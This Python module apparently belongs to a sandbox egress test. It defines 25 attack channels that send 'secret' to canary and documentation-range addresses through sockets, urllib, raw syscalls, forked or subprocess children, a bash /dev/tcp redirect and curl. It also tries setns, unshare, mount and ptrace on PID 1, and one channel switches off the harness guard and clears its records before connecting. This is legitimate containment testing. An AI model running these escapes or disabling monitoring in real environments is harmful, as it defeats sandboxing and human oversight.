"""The egress battery's attacks, as a module the test copies into a model's remote code and
into a task's `!function` module. Each channel tries to reach the test's canary on the host's
127.0.0.1 (it must receive nothing) and a documentation address whose last number names the
channel (the supervisor must record it); the refused channels try a way out of the sandbox.

Written as plain text so that the hostile code is exactly what runs; `NET`, `OFFSET`, `PORT_BASE`,
`CANARY` and `TAG` are set by the test."""

import ctypes
import os
import shutil
import socket
import subprocess
import sys
import threading
import urllib.request

NET, OFFSET, PORT_BASE, CANARY, TAG = "203.0.113", 0, 8000, 9, "x"
libc = ctypes.CDLL(None, use_errno=True)


def _quiet(function):
    try:
        function()
    except Exception:
        pass


def _connect(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect((host, port))
        s.sendall(b"secret")


def _both(n, connect):
    _quiet(lambda: connect("127.0.0.1", CANARY))
    _quiet(lambda: connect(_host(n), PORT_BASE + n))


def _host(n):
    return f"{NET}.{OFFSET + n}"


def _child_code(n):
    targets = [("127.0.0.1", CANARY), (_host(n), PORT_BASE + n)]
    return (
        "import socket\n"
        f"for h, p in {targets!r}:\n"
        "    try: socket.create_connection((h, p), timeout=3).sendall(b'secret')\n"
        "    except Exception: pass\n"
    )


def _libc_connect(host, port, family_bits=0):
    fd = libc.syscall(41, ctypes.c_long(family_bits | socket.AF_INET), 1, 0)
    if fd < 0:
        return
    addr = bytes([2, 0]) + port.to_bytes(2, "big") + socket.inet_aton(host) + bytes(8)
    libc.connect(fd, ctypes.c_char_p(addr), 16)
    os.close(fd)


def channels():
    n = {}
    n[1] = lambda: _both(1, _connect)
    n[2] = lambda: _both(2, lambda h, p: urllib.request.urlopen(f"http://{h}:{p}/", timeout=3))
    n[3] = lambda: _both(
        3,
        lambda h, p: (
            __import__("http.client").client.HTTPConnection(h, p, timeout=3).request("GET", "/")
        ),
    )  # noqa: E501
    n[4] = lambda: socket.getaddrinfo(f"c4-{TAG}.battery.example", 443)
    n[5] = lambda: socket.getaddrinfo(f"c5-{TAG}.localhost", 443)
    n[6] = lambda: _both(
        6, lambda h, p: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (h, p))
    )  # noqa: E501
    n[7] = lambda: _both(7, _libc_connect)
    n[8] = lambda: _both(8, lambda h, p: _libc_connect(h, p, family_bits=1 << 32))
    n[9] = lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    n[10] = lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    n[11] = lambda: socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK
    n[12] = lambda: _thread(12)
    n[13] = lambda: _fork(13)
    n[14] = lambda: subprocess.run([sys.executable, "-c", _child_code(14)], timeout=30)
    n[15] = lambda: subprocess.run([sys.executable, "-I", "-c", _child_code(15)], timeout=30)
    n[16] = lambda: subprocess.run(
        [
            "bash",
            "-c",
            f"echo secret > /dev/tcp/127.0.0.1/{CANARY}; "
            f"echo secret > /dev/tcp/{_host(16)}/{PORT_BASE + 16}",
        ],
        timeout=30,
    )  # noqa: E501
    if shutil.which("curl"):
        n[17] = lambda: subprocess.run(
            [
                "curl",
                "-s",
                "-m",
                "3",
                f"http://127.0.0.1:{CANARY}/",
                f"http://{_host(17)}:{PORT_BASE + 17}/",
            ],
            timeout=30,
        )  # noqa: E501
    n[18] = lambda: libc.setns(os.open("/proc/1/ns/net", os.O_RDONLY), 0)
    n[19] = lambda: libc.unshare(0x40000000 | 0x10000000)
    n[20] = lambda: _switch_off_guard_then(20)
    n[21] = lambda: _quiet(
        lambda: _connect(f"2001:db8::{PORT_BASE + 21:x}", PORT_BASE + 21, socket.AF_INET6)
    )  # noqa: E501
    n[22] = lambda: libc.syscall(425, 8, ctypes.c_void_p(0))  # io_uring_setup
    n[23] = lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    n[24] = lambda: libc.ptrace(16, 1, None, None)  # PTRACE_ATTACH to the namespace's init
    n[25] = lambda: libc.syscall(310, 1, None, 0, None, 0, 0)  # process_vm_readv
    return n


def _thread(n):
    worker = threading.Thread(target=lambda: _both(n, _connect))
    worker.start()
    worker.join()


def _fork(n):
    pid = os.fork()
    if pid == 0:
        _both(n, _connect)
        os._exit(0)
    os.waitpid(pid, 0)


def _switch_off_guard_then(n):
    guard = sys.modules.get("harness.offline.guard")
    if guard is not None and guard._ACTIVE is not None:
        guard._ACTIVE.on_record = None
        guard._ACTIVE._records.clear()
        guard._ACTIVE.block = False
    _both(n, _connect)


def run_all():
    for function in channels().values():
        _quiet(function)
